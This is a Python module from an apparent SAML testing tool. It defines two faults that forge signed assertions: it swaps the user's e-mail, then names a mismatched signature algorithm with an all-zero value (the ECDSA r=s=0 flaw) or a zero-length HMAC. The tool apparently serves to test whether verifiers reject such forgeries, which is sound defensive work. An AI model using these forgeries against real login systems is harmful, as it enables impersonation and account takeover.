"""Faults in the algorithm that a signature names: one that nobody can verify by, and a shortened HMAC."""

from __future__ import annotations

import base64

from mock_idp.faults.model import Param, Params
from mock_idp.faults.registry import fault
from mock_idp.faults.saml.message import SamlMessage, replace_email
from mock_idp.faults.saml.signing.dsig import DS, Signed, attacked, ds
from mock_idp.faults.saml.signing.value import EMAIL, FORGED

METHOD = "ds:SignedInfo/ds:SignatureMethod"
_METHODS = {
    "unknown": "urn:example:signature-of-another-kind",
    "dsa-sha1": f"{DS}dsa-sha1",
    "ecdsa-sha256": "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
}
"""SignatureMethods that do not fit the IdP's RSA key."""
_ZEROS = bytes(64)
"""For ECDSA on P-256 this is r = s = 0, which holds for every message where nobody looks (CVE-2022-21449)."""


@fault(
    "saml.signature.method",
    stage="after-signing",
    fault_class="signature",
    params={**EMAIL, "is": Param(choices=tuple(_METHODS))},
    touches=FORGED,
)
def method(message: SamlMessage, params: Params) -> str:
    """The e-mail is replaced, the digest fits, and the SignatureMethod is one that no key here is for.

    The SignatureValue is zeros: a verifier's error is no yes (CVE-2016-9814)."""
    named = _METHODS[str(params["is"])]
    signed, said = _forged(message, str(params["email"]), named)
    signed.part("ds:SignatureValue").text = base64.b64encode(_ZEROS).decode("ascii")
    return f"SignatureMethod is {named} and the SignatureValue is {len(_ZEROS)} zeros. {said}"


@fault(
    "saml.signature.hmac-truncated",
    stage="after-signing",
    fault_class="signature",
    params=EMAIL,
    touches=FORGED,
)
def hmac_truncated(message: SamlMessage, params: Params) -> str:
    """The e-mail is replaced, the digest fits, and the signature is an HMAC of which 0 bits count.

    HMACOutputLength says so (XML-DSig 6.3.1); no secret has to be known (CVE-2009-0217)."""
    signed, said = _forged(message, str(params["email"]), f"{DS}hmac-sha1")
    signed.part(METHOD).append(ds("HMACOutputLength", "0"))
    signed.part("ds:SignatureValue").text = ""
    return f"SignatureMethod is an HMAC of 0 bits and the SignatureValue is empty. {said}"


def _forged(message: SamlMessage, email: str, algorithm: str) -> tuple[Signed, str]:
    """Replace the e-mail and the digest, and name another SignatureMethod."""
    signed = attacked(message)
    said = " ".join(replace_email(message.assertion, email))
    signed.redigest()
    named = signed.part(METHOD)
    for child in list(named):
        named.remove(child)
    named.set("Algorithm", algorithm)
    return signed, said
